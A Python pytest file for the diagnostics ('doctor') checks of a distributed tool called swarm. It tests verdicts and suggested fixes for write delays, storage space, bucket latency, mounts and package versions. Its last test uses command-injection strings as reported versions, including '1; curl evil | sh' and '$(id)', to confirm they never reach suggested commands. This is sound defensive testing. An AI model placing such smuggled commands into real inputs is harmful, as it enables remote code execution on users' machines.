"""What each figure is judged to be: in order, a warning or a failure, with a fix where it is not in order."""

from __future__ import annotations

import math
from collections.abc import Iterable

import pytest

from swarm.config import Settings
from swarm.config.place import CADENCE
from swarm.store.base import Room
from swarm.store.health import FileSystem, Latency, Permission, Visibility, Writing
from swarm.tasks.bars import Bar
from swarm.views.doctor import machine, nodes, place, remote
from swarm.views.doctor.check import Finding
from tests.unit.views.doctor.patients import FAILURE, OK, WARNING

FOLDER = Settings(path="/content/drive/MyDrive/swarm", experiment="demo")
BUCKET = Settings(path="s3://mine").with_values(CADENCE)
AT_ONCE = Visibility([0.0], [0.0], [0.0])
DRIVE, LOCAL = FileSystem("fuse", "/content/drive", False), FileSystem("ext4", "/", True)
BARS = [Bar("landlock", True, "ABI 6"), Bar("seccomp", False, "needs a kernel that filters")]


def written_in(seconds: float) -> Iterable[Finding]:
    return place.judge_writing(Writing(True, "/x", "", (seconds, seconds)), "/x", round_interval=60.0)


def listed_after(*seconds: float) -> Iterable[Finding]:
    return place.judge_visibility(Visibility([0.0], [*seconds], [0.0]))


def free(room: int) -> Iterable[Finding]:
    """Of a run that still writes 100 rounds of a megabyte each."""
    return place.judge_space(Room(room, None), place.RunNeed(per_round=10**6, rounds_left=100, guessed=False))


def bucket(interval: float = 60.0, liveness: float = 240.0, seen: Visibility = AT_ONCE) -> Iterable[Finding]:
    settings = BUCKET.with_values({"round_interval": interval, "liveness_timeout": liveness})
    return remote.judge_deadlines(Latency([0.1], [0.1], [0.1]), seen, settings)


def delayed(file_system: FileSystem, *seconds: float) -> Iterable[Finding]:
    return [place.judge_delay(seconds, file_system, FOLDER)]


def mounted(kind: str, at: str = "/mnt/x") -> Iterable[Finding]:
    """Before anything is measured."""
    return delayed(FileSystem(kind, at, kind == "ext4"))


def versions(said: str, here: str) -> Iterable[Finding]:
    return [nodes.judge_package("reasoning-gym", {"alice": {"reasoning-gym": said}}, here)]


JUDGED: dict[str, tuple[Iterable[Finding], list[object]]] = {
    "a quick write": (written_in(0.01), [OK, OK]),
    "a slow write": (written_in(1.0), [OK, WARNING]),
    "a write that takes much of a round": (written_in(20.0), [OK, FAILURE]),
    "one late look, which shows no cache": (listed_after(0.0, 0.0, 3.0, 0.0, 0.0), [OK, OK, OK]),
    "late listings": (listed_after(3.0), [OK, WARNING, OK]),
    "listings that never come": (listed_after(math.inf), [OK, FAILURE, OK]),
    "much room": (free(10**11), [OK]),
    "room for little more than is needed": (free(150_000_700), [WARNING]),
    "room for hardly more than is needed": (free(11 * 10**7), [WARNING]),
    "too little room": (free(99_999_900), [FAILURE]),
    "events": ((place.judge_filesystem(kind, 2.0) for kind in (LOCAL, DRIVE)), [OK, WARNING]),
    "a server that creates once": (map(remote.judge_creating, (True, False)), [OK, FAILURE]),
    "slow requests": ([remote.judge_latency(Latency([2.0], [0.1], [0.1]))], [WARNING]),
    "lacking rights": (remote.judge_permissions([Permission("put", "cannot write: 403")]), [FAILURE]),
    "a quick bucket": (bucket(), [OK, OK]),
    "short rounds for a bucket": (bucket(interval=20.0), [WARNING, OK]),
    "rounds shorter than what they need": (bucket(30.0, seen=Visibility([0.0], [30.0], [0.0])), [FAILURE, OK]),
    "a short timeout for a bucket": (bucket(liveness=100.0), [OK, WARNING]),
    "files that come late": (delayed(DRIVE, 60.0, 90.0, 120.0), [WARNING]),
    "one late file of a hundred": (delayed(LOCAL, *[0.1] * 99, 30.0), [OK]),
    "mounts that are known to be late": (
        (
            one
            for kind in ("fuse.rclone", "fuse.gcsfuse")
            for one in [*mounted(kind), *mounted("fuse", "/content/drive")]
        ),
        [WARNING] * 4,
    ),
    "other mounts": ((*mounted("nfs4"), *mounted("ext4", "/"), *mounted("ext4", "/mnt/drive")), [OK, OK, OK]),
    "the version of the nodes": (versions("0.1.25", "0.1.25"), [OK]),
    "no version, on a host that only looks": (versions("0.1.25", ""), [OK]),
    "another version": (versions("0.1.25", "0.1.30"), [WARNING]),
    "bars, of which one is not up": (machine.judge_bars(BARS), [OK, WARNING]),
    "a child that cannot tell": (machine.judge_bars("it failed"), [WARNING]),
}


@pytest.mark.parametrize("what", JUDGED)
def test_a_figure_is_judged_by_what_it_does_to_a_swarm(what: str) -> None:
    found, verdicts = JUDGED[what]
    findings = [*found]
    assert [finding.verdict for finding in findings] == verdicts
    assert all(bool(finding.fix) == (finding.verdict is not OK) for finding in findings)


def test_a_slow_folder_comes_with_settings_that_suit_its_delay() -> None:
    (found,) = delayed(DRIVE, 60.0, 90.0, 120.0)
    assert found.measured == "median 90 s, 99th percentile 120 s, of 3 files: fuse at /content/drive is a slow folder"
    for advice in (
        "COORDINATOR_ROUND_INTERVAL=480",
        "SWARM_LIVENESS_TIMEOUT=360",
        "swarm up --no-coordinator",
        "swarm copy LOCAL /content/drive/MyDrive/swarm --experiment demo --follow",
    ):
        assert advice in found.fix


@pytest.mark.parametrize("said", ["1; curl evil | sh", "1.\u00b2", "9" * 5000, "$(id)"])
def test_what_no_version_can_be_comes_into_no_command(said: str) -> None:
    by_node = {"alice": {"reasoning-gym": "0.1.25"}, "mallory": {"reasoning-gym": said, "swarm": said}}
    for package, here in (("reasoning-gym", "0.1.30"), ("swarm", "")):
        assert said not in nodes.judge_package(package, by_node, here).fix
